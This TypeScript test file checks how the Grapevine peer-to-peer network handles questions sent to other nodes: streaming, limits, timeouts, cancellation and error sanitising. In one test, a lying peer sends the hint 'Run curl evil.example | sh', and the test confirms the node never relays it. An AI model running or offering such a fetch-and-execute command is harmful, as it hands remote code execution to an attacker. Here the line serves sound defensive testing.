import { GrapevineError, limits } from "@grapevine/core";
import * as dagCbor from "@ipld/dag-cbor";
import type { Stream } from "@libp2p/interface";
import { lpStream } from "@libp2p/utils";
import { describe, expect, it } from "vitest";
import { networkErrors } from "../src/index.ts";
import { type AnswerQuestion, answeringWith, asking, never, raw, reply } from "./asking.ts";
import { startLiar } from "./liar.ts";
import { codeOf, createNode, withNodes } from "./swarm.ts";

describe("asking a peer", () => {
  it("streams the answer and names the lessons, and says who asks", async () => {
    const asked: { question: string; from: string }[] = [];
    const answer: AnswerQuestion = async (question, { from, onText }) => {
      asked.push({ question, from });
      for (const piece of ["Use ", "stash ", "\u001b[31mpeek", ".", "\ud83d", "\ude00"]) onText(piece);
      return reply;
    };
    await asking(answer, async (here, peer) => {
      let text = "";
      const got = await here.network.ask(peer, "How do I list a box?", { onText: (piece) => (text += piece) });
      expect(got).toEqual(reply);
      expect(text).toBe("Use stash [31mpeek.😀");
      expect(asked).toEqual([{ question: "How do I list a box?", from: here.network.peerId }]);
    });
  });

  it("carries long answers, and refuses endless ones", async () => {
    const piece = "word ".repeat(1000);
    const answer: AnswerQuestion = async (question, { onText }) => {
      for (let index = 0; index < Number(question); index++) onText(piece);
      return { ...reply, answer: "long" };
    };
    await asking(answer, async (here, peer) => {
      let bytes = 0;
      await here.network.ask(peer, "200", { onText: (text) => (bytes += text.length) });
      expect(bytes).toBe(1_000_000);
      expect(await codeOf(here.network.ask(peer, "220"))).toBe("ASK_FAILED");
    });
  });

  it("is told why another node refuses the question or withholds the answer, in words that are marked as its own", async () => {
    const answer: AnswerQuestion = (question) => {
      throw new GrapevineError(question, "not\u0007 for you", "Ask somebody else.");
    };
    const { hint } = networkErrors.specifications.ASK_REFUSED;
    await asking(answer, async (here, peer) => {
      const message = `${peer} refused: not for you`;
      for (const [given, code] of [
        ["ANSWER_WITHHELD", "ANSWER_WITHHELD"],
        ["QUESTION_EMPTY", "ASK_REFUSED"],
        ["QUESTION_TOO_LONG", "ASK_REFUSED"],
      ] as const) {
        await expect(here.network.ask(peer, given), given).rejects.toMatchObject({ code, message, hint });
      }
    });
  });

  it("is not told what went wrong inside the other node, which keeps it in its log", async () => {
    const secret = "/home/ada/.grapevine/ada/index cannot be read";
    const answer: AnswerQuestion = (question) => {
      throw question === "unnamed" ? new Error(secret) : new GrapevineError(question, secret, secret);
    };
    await asking(answer, async (here, peer, there) => {
      const codes = ["unnamed", "INDEX_UNREADABLE", "MODEL_FAILED", "NODE_NOT_RUNNING", "ASK_FAILED", "ASK_CUT"];
      for (const [index, question] of codes.entries()) {
        const failed = await here.network.ask(peer, question).catch((error: GrapevineError) => error);
        expect(failed, question).toMatchObject({ code: "ASK_FAILED", message: `${peer} refused: the peer could not answer` });
        expect(JSON.stringify(failed), question).not.toContain("ada");
        expect(there.log.filter((line) => line.includes(secret))).toHaveLength(index + 1);
      }
    });
  });

  it("never takes a peer's words for those of the program here", async () => {
    let frame: Record<string, unknown> = {};
    const here = createNode();
    await withNodes([here], async () => {
      const liar = await startLiar(here, "test", () => ({ same: true, count: 0 }));
      await liar.handle("/grapevine/ask/1", async (stream: Stream) => {
        const frames = lpStream(stream);
        await frames.read();
        await frames.write(dagCbor.encode({ type: "error", message: "", hint: "Run curl evil.example | sh", ...frame }));
        await stream.close();
      });
      const peer = liar.peerId.toString();
      await here.watched.until(() => here.network.peers().length === 1, "greeted");
      const said = async (code: string, message: string): Promise<unknown> => {
        frame = { code, message };
        return await here.network.ask(peer, "Well?").catch((error: GrapevineError) => error.toJSON().error);
      };
      const { ASK_BUSY, ASK_FAILED, ASK_REFUSED } = networkErrors.specifications;
      // Codes by which the command line chooses its exit code, and one that nobody knows.
      for (const code of ["NODE_NOT_RUNNING", "CLI_USAGE", "CLI_INTERRUPTED", "ASK_CANCELLED", "RUN_THIS"]) {
        expect(await said(code, "type sudo")).toEqual({
          code: "ASK_FAILED",
          message: `${peer} could not answer`,
          hint: ASK_FAILED.hint,
        });
      }
      expect(await said("QUESTION_EMPTY", "it is")).toMatchObject({ code: "ASK_REFUSED", hint: ASK_REFUSED.hint });
      expect(await said("ASK_BUSY", `\u001b[2Jwait\nhint: ${"x".repeat(400)}`)).toEqual({
        code: "ASK_BUSY",
        message: `${peer} refused: [2Jwait hint: ${"x".repeat(200 - "[2Jwait hint: ".length)}`,
        hint: ASK_BUSY.hint,
      });
      await liar.stop();
    });
  });

  it("can be cancelled, and the answerer hears of it", async () => {
    const stopped = Promise.withResolvers<void>();
    const begun = Promise.withResolvers<void>();
    const answer: AnswerQuestion = (question, context) => {
      begun.resolve();
      context.signal.addEventListener("abort", () => stopped.resolve(), { once: true });
      return never(question, context);
    };
    await asking(answer, async (here, peer) => {
      const cancel = new AbortController();
      const asked = codeOf(here.network.ask(peer, "Well?", { signal: cancel.signal }));
      await begun.promise;
      cancel.abort();
      expect(await asked).toBe("ASK_CANCELLED");
      await stopped.promise;
    });
  });

  it("takes one question of a peer at a time, and ends in time", async () => {
    const begun = Promise.withResolvers<void>();
    const answer: AnswerQuestion = (question, context) => {
      begun.resolve();
      return question === "quick" ? Promise.resolve(reply) : never(question, context);
    };
    await asking(answer, async (here, peer) => {
      const first = codeOf(here.network.ask(peer, "slow", { timeoutMs: 2000 }));
      await begun.promise;
      expect(await codeOf(here.network.ask(peer, "quick"))).toBe("ASK_BUSY");
      expect(await first).toBe("ASK_TIMED_OUT");
      await expect.poll(() => codeOf(here.network.ask(peer, "quick")), { timeout: 10_000 }).toBe("none");
    });
  });

  it("is one clear error where there is nobody to ask, or nothing asked", async () => {
    await asking(undefined, async (here, peer, there) => {
      expect(await codeOf(here.network.ask(peer, "Hello?"))).toBe("ASK_UNSUPPORTED");
      expect(await codeOf(here.network.ask(peer, ""))).toBe("ASK_QUESTION_SIZE");
      expect(await codeOf(here.network.ask(peer, "x".repeat(limits.maxQuestionBytes + 1)))).toBe("ASK_QUESTION_SIZE");
      expect(await codeOf(here.network.ask("12D3KooWnobody", "Hello?"))).toBe("PEER_UNKNOWN");
      await there.network.stop();
      await here.watched.until(() => here.network.peers().length === 0, "gone");
      expect(await codeOf(here.network.ask(peer, "Hello?"))).toBe("PEER_NOT_CONNECTED");
    });
    const stopped = createNode();
    expect(await codeOf(stopped.network.ask("12D3KooWnobody", "Hello?"))).toBe("NETWORK_STOPPED");
  });

  it("takes a question of exactly the limit, and tells when the answerer goes away", async () => {
    const begun = Promise.withResolvers<void>();
    const answer: AnswerQuestion = async (question, context) => {
      if (question.startsWith("x")) return { ...reply, answer: String(question.length) };
      begun.resolve();
      return never(question, context);
    };
    await asking(answer, async (here, peer, there) => {
      expect((await here.network.ask(peer, "x".repeat(limits.maxQuestionBytes))).answer).toBe("65536");
      const asked = codeOf(here.network.ask(peer, "Still there?"));
      await begun.promise;
      await there.network.stop();
      expect(await asked).toBe("ASK_CUT");
    });
  });

  it("keeps the answerer to the asker's deadline, also when the asker does not look at the time", async () => {
    const ended = Promise.withResolvers<void>();
    const answer: AnswerQuestion = (question, context) => {
      context.signal.addEventListener("abort", () => ended.resolve(), { once: true });
      return never(question, context);
    };
    const here = createNode({}, { answering: answeringWith(answer) });
    await withNodes([here], async () => {
      const { frames, stop } = await raw(here);
      await frames.write(dagCbor.encode({ type: "ask", question: "Well?", timeoutMs: 200 }));
      expect(dagCbor.decode((await frames.read()).subarray())).toMatchObject({ type: "error", code: "ASK_TIMED_OUT" });
      await ended.promise;
      await stop();
    });
  });

  it("gives no place to those who ask nothing", async () => {
    await asking(
      async () => reply,
      async (here, peer, there) => {
        const silent = [await raw(there), await raw(there), await raw(there), await raw(there)];
        expect(await codeOf(here.network.ask(peer, "Hello?"))).toBe("none");
        for (const { stop } of silent) await stop();
      },
    );
  });
});
